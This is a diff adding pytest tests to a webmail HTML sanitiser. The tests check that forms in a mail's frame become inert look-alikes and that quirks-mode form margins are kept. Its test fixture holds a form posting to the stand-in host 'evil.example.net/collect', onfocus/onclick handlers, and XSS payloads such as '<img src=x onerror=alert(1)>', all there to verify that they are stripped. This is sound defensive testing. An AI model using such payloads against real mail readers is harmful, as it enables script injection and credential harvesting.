@@ -10,6 +10,8 @@ import pytest
 from vt_webmail.core import html_tree
 from vt_webmail.core.html import (
     BODY_MARKER,
+    CONTROL_MARKER,
+    FORM_MARKER,
     FRAME_SANDBOX,
     MISSING_IMAGE,
     PreparedBody,
@@ -471,6 +473,72 @@ def test_frame_links_and_images_that_go_nowhere_keep_their_look():
     page = prepare_body(html, {}, False).html
     assert "href" not in page and "src" not in page
     assert page_body(_frame(html).html) == page
+
+
+FORM = ('<form action="https://evil.example.net/collect" method="post" onsubmit="x()">'
+        '<input type="hidden" name="id" value="42">'
+        'Name <input name="n" size="12" value="<b>Ann</b>" class="field" onfocus="x()"> '
+        '<input type="password" value="secret"> <input placeholder="Your email"> '
+        '<input type="checkbox" checked> <input type="radio"> '
+        '<select name="s"><option>a<option selected label="Longer option">b</select> '
+        '<select multiple><option>x<option>y</select> '
+        '<textarea cols="30" rows="4"><img src=x onerror=alert(1)></textarea> '
+        '<button type="submit" onclick="x()"><b>Go</b><script>alert(1)</script></button> '
+        '<input type="submit"> <input type="reset" value="Clear"> '
+        '<input type="image" src="https://img.example.net/go.gif"></form>after')
+
+
+def test_frame_form_controls_become_inert_look_alikes():
+    # a form is part of a mail's layout: in the frame each control is a <span> that looks
+    # like it; nothing can be typed, chosen, sent, and no name, value or action is left
+    frame = _frame(FORM)
+    tree = _tree(frame.html)
+    for tag in ("form", "input", "select", "option", "textarea", "button", "script"):
+        assert tree.find(f".//{tag}") is None, tag
+    for element in tree.iter():
+        assert not {"name", "value", "action", "method", "type", "onsubmit", "onfocus",
+                    "onclick", "onerror"} & set(element.attrib), element.attrib
+    [form] = tree.findall(f".//*[@{FORM_MARKER}]")
+    assert form.tag == "div" and form.tail == "after"
+    looks = [(element.tag, element.get(CONTROL_MARKER), element.text_content())
+             for element in form.findall(f".//*[@{CONTROL_MARKER}]")]
+    assert looks == [
+        ("span", "text", "<b>Ann</b>"), ("span", "text", "\u2022" * 6),
+        ("span", "text", "Your email"), ("span", "checkbox", ""), ("span", "radio", ""),
+        ("span", "select", "aLonger optionLonger option"), ("span", "listbox", "xy"),
+        ("span", "textarea", "<img src=x onerror=alert(1)>"), ("span", "button", "Go"),
+        ("span", "button", "Submit"), ("span", "button", "Clear"), ("img", "image", "")]
+    first = form.find(f".//*[@{CONTROL_MARKER}]")
+    assert (first.get("class"), first.get("style")) == ("field", "--vt-size:12;")
+    checkbox = form.findall(f".//*[@{CONTROL_MARKER}='checkbox']")[0]
+    assert checkbox.get("data-vt-checked") == ""
+    textarea = form.find(f".//*[@{CONTROL_MARKER}='textarea']")
+    assert textarea.get("style") == "--vt-cols:30;--vt-rows:4;"
+    image = form.find(f".//img[@{CONTROL_MARKER}]")
+    assert (image.get("src"), image.get("alt"), image.get("data-vt-remote-src")) == (
+        MISSING_IMAGE, "Submit", "https://img.example.net/go.gif")
+    assert "<img src=x" not in frame.html and "&lt;img src=x" in frame.html
+    # in a page a form shows nothing, as before; the frame's document draws the look-alikes
+    assert page_body(frame.html) == prepare_body(FORM, {}, False).html
+    document = frame_document(frame.html)
+    assert f"<style>[{CONTROL_MARKER}]{{" in document
+    assert "<style>" not in frame_document(_frame("<p>no form</p>").html)
+
+
+@pytest.mark.parametrize(("html", "margins"), [
+    # Chromium's quirky form margin: none for an empty form meeting the top of the body or
+    # the top or bottom of a table cell; a form among a table's rows is no element at all
+    ("<form></form><p>a</p><form></form><p>b</p><form>c</form>", ["", "quirk", "quirk"]),
+    ("<table><tr><td><form></form>a<form>b</form><form></form></td></tr></table>",
+     ["", "quirk", ""]),
+    ("<table><tr><td><div><form></form>a</div></td></tr></table>", [""]),
+    ("<table><tr><form><td>a</td></form></tr></table>", []),
+    ("<!DOCTYPE html><form>a</form><form></form>", ["", ""]),
+])
+def test_frame_forms_keep_the_bottom_margin_of_quirks_mode(html, margins):
+    tree = _tree(_frame(html).html)
+    assert [form.get(FORM_MARKER) for form in tree.iter("div")
+            if form.get(FORM_MARKER) is not None] == margins
 
 
 # -- what browsers do and libxml2 does not ------------------------------------------------------
